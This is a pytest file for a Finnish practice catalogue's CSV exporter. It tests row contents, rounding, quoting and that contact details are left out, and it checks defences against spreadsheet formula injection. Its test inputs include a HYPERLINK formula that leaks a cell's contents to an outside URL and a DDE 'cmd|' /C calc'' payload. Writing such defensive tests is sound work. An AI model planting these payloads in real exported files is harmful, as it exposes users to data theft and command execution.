"""The CSV files, opened as other programs open them."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from catalogue.export.as_csv import harmless, outcomes_csv, practices_csv
from catalogue.export.columns import OUTCOME_COLUMNS, PRACTICE_COLUMNS
from catalogue.messages import messages
from tests.factories import catalogue, outcome_data, practice, real_catalogue


def rows(data: bytes) -> list[dict[str, str]]:
    """Return the rows of a CSV file by column."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


def one(**fields: Any) -> dict[str, str]:
    """Return the row of a single practice."""
    (row,) = rows(practices_csv(catalogue({"esimerkki": practice(**fields)})))
    return row


def test_there_is_a_row_for_each_practice() -> None:
    """In the order of the catalogue, with the leading zeros of codes."""
    found = rows(practices_csv(real_catalogue()))
    assert [row["id"] for row in found] == [entry.id for entry in real_catalogue().entries]
    by_id = {row["id"]: row for row in found}
    assert by_id["nuoret-kehittajat-helsinki"]["places"] == "091"
    assert by_id["suhdeperustainen-lastensuojelutyo"] == {
        "id": "suhdeperustainen-lastensuojelutyo",
        "url": "/kaytannot/suhdeperustainen-lastensuojelutyo/",
        "title": "Suhdeperustainen lastensuojelutyö",
        "language": "fi",
        "summary": by_id["suhdeperustainen-lastensuojelutyo"]["summary"],
        "model": "",
        "kind": "method",
        "status": "in-use",
        "status_as_of": "2017-09-18",
        "started": "",
        "ended": "",
        "service_levels": "universal; open-care",
        "themes": "relationship-based-work; service-structure; staff-wellbeing; early-support",
        "target_groups": "child-welfare-clients; families-with-children; professionals",
        "keywords": by_id["suhdeperustainen-lastensuojelutyo"]["keywords"],
        "places": "505; 611",
        "counties": "keski-uusimaa",
        "provider": "mustijoen-perusturva",
        "provider_kind": "public",
        "best_evidence_level": "0",
        "outcomes": "8",
        "awards": "unknown: winner",
        "completeness": "partial",
    }


def test_there_is_a_row_for_each_outcome() -> None:
    """With numbers as numbers, decimal point, and empty cells for what is not known."""
    found = rows(outcomes_csv(real_catalogue()))
    assert len(found) == sum(len(entry.outcomes) for entry in real_catalogue().entries) == 39
    (row,) = [row for row in found if row["id"] == "huostaanotot-2016"]
    assert {key: row[key] for key in list(row)[6:19]} == {
        "baseline_value": "33",
        "baseline_period": "2015",
        "follow_up_value": "14",
        "follow_up_period": "2016",
        "change_absolute": "-19",
        "change_unit": "count",
        "change_percent": "-57.6",
        "change_times": "",
        "change_precision": "exact",
        "direction": "decreased",
        "result": "good",
        "evidence_level": "2",
        "independence": "self",
    }
    (share,) = [row for row in found if row["id"] == "sijoitettujen-osuus-2016"]
    assert (share["baseline_value"], share["change_absolute"], share["change_unit"]) == (
        "1.4",
        "-0.1",
        "percentage-points",
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_takes_for_a_formula_is_made_text(start: str) -> None:
    """Each sign that OWASP names, at the start of a cell."""
    assert harmless(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Nimi", "1=1", "a@b", "", " =1", "–", "'=1"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    """The signs do no harm further on."""
    assert harmless(text) == text


@pytest.mark.parametrize("number", [Decimal("-19"), -1, 0, Decimal("0.5")])
def test_numbers_stay_numbers(number: Decimal | int) -> None:
    """A minus sign before a number is no formula."""
    assert harmless(number) is number


FORMULA = '=HYPERLINK("https://esimerkki.fi/?"&A1,"x")'


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("title", FORMULA),
        ("summary", "@SUM(1+1)"),
        ("keywords", ["=1+1", "toinen"]),
        ("title", "-2+3+cmd|' /C calc'!A0"),
        ("summary", "+1+1"),
    ],
)
def test_a_formula_in_a_practice_comes_out_as_text(field: str, value: Any) -> None:
    """With its quotes and commas intact."""
    written = "; ".join(value) if isinstance(value, list) else value
    assert one(**{field: value})[field] == "'" + written


def test_no_cell_of_the_real_files_begins_a_formula() -> None:
    """But numbers may be negative."""
    for data in (practices_csv(real_catalogue()), outcomes_csv(real_catalogue())):
        cells = [cell for row in rows(data) for cell in row.values()]
        risky = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert [cell for cell in risky if not cell.lstrip("-").replace(".", "").isdigit()] == []


def test_quotes_commas_and_line_breaks_come_back_as_written() -> None:
    """RFC 4180."""
    summary = 'Sanoi ”hei”, "moi"\nja lähti.'
    assert one(summary=summary)["summary"] == summary


def test_lines_end_as_the_standard_says_and_the_text_is_utf_8() -> None:
    """CR LF, no byte order mark."""
    data = practices_csv(real_catalogue())
    assert data.startswith(b"id,url,title,")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 15
    assert "Mäntsälä".encode() in data


def test_the_relative_change_is_rounded_as_on_the_page() -> None:
    """−12.25 % becomes −12.3 %, half away from zero."""
    claim = outcome_data(baseline={"value": "400"}, follow_up={"value": "351"})
    (row,) = rows(outcomes_csv(catalogue({"esimerkki": practice(outcomes=[claim])})))
    assert row["change_percent"] == "-12.3"


@pytest.mark.parametrize(
    ("sheet", "columns"), [("practices", PRACTICE_COLUMNS), ("outcomes", OUTCOME_COLUMNS)]
)
def test_every_column_is_explained_and_nothing_else(sheet: str, columns: tuple[Any, ...]) -> None:
    """A column that nobody explains would be guessed at."""
    prefix = f"export.column.{sheet}."
    explained = {key.removeprefix(prefix) for key in messages().texts if key.startswith(prefix)}
    assert explained == {column.name for column in columns}


def test_contacts_are_not_in_the_tables() -> None:
    """A list of people to write to is no open data."""
    contact = {
        "name": "Esimerkki Henkilö",
        "organisation": "imatra",
        "email": "esimerkki@esimerkki.example",
        "verified": "2026-01-01",
    }
    made = catalogue({"esimerkki": practice(contacts=[contact])})
    assert b"Esimerkki Henkil" not in practices_csv(made) + outcomes_csv(made)
    assert b"@" not in practices_csv(made) + outcomes_csv(made)


def test_two_exports_are_identical() -> None:
    """Byte for byte."""
    assert practices_csv(real_catalogue()) == practices_csv(real_catalogue())
    assert outcomes_csv(real_catalogue()) == outcomes_csv(real_catalogue())
